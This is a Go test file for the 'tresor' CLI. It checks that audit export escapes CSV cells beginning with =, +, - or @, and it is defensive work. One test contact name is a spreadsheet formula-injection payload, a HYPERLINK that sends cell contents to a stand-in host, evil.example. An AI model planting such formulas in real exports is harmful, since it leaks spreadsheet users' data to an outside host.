package main

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"tresor"
	"tresor/datadir"
	"tresor/storetest"
)

// TestAuditExportCommandEscapesFormulaCells: the CSV of tresor audit export
// opens in a spreadsheet as text; a name that begins with a formula
// character comes out behind a single quote (OWASP's rule).
func TestAuditExportCommandEscapesFormulaCells(t *testing.T) {
	for _, b := range []struct {
		name string
		env  func(t *testing.T) (datadir.Config, map[string]string)
	}{
		{"sqlite", func(t *testing.T) (datadir.Config, map[string]string) {
			dir := t.TempDir()
			return datadir.Config{DataDir: dir, Migrate: true}, map[string]string{"TRESOR_DATA_DIR": dir}
		}},
		{"postgres", func(t *testing.T) (datadir.Config, map[string]string) {
			dir, db := t.TempDir(), storetest.PostgresURL(t)
			return datadir.Config{DB: db, DataDir: dir, Migrate: true}, map[string]string{"TRESOR_DB": db, "TRESOR_DATA_DIR": dir}
		}},
	} {
		t.Run(b.name, func(t *testing.T) {
			cfg, env := b.env(t)
			names := map[string]string{ // rule: family name
				"a name that begins with = is quoted":               `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
				"a name that begins with + is quoted":               "+1+1",
				"a name that begins with - is quoted":               "-1+1",
				"a name that begins with @ is quoted":               "@SUM(1+1)",
				"a name without a formula character stays as it is": "Muster=mann",
			}
			ids := map[string]string{}
			g, err := datadir.Open(context.Background(), cfg)
			if err != nil {
				t.Fatal(err)
			}
			ctx := tresor.WithPurpose(tresor.WithActor(context.Background(), &tresor.Actor{Kind: tresor.ActorSystem}), "sales")
			for rule, name := range names {
				c := &tresor.Contact{ContactDetails: tresor.ContactDetails{FamilyName: name}, Collection: tresor.Collection{LegalBasis: tresor.BasisContract}}
				if err := g.CreateContact(ctx, c); err != nil {
					t.Fatal(err)
				}
				ids[rule] = c.ID
			}
			g.Close()
			out := expect(t, env, 0, "contact_id,state,", "audit", "export", "--actor", "system", "--since", "2020-01-01", "--until", "2099-01-01")
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			family := map[string]string{}
			for _, row := range rows {
				family[row[0]] = row[3]
			}
			for rule, name := range names {
				t.Run(rule, func(t *testing.T) {
					want := name
					if strings.ContainsRune("=+-@", rune(name[0])) {
						want = "'" + name
					}
					if got := family[ids[rule]]; got != want {
						t.Fatalf("family_name %q, want %q\n%s", got, want, out)
					}
				})
			}
		})
	}
}
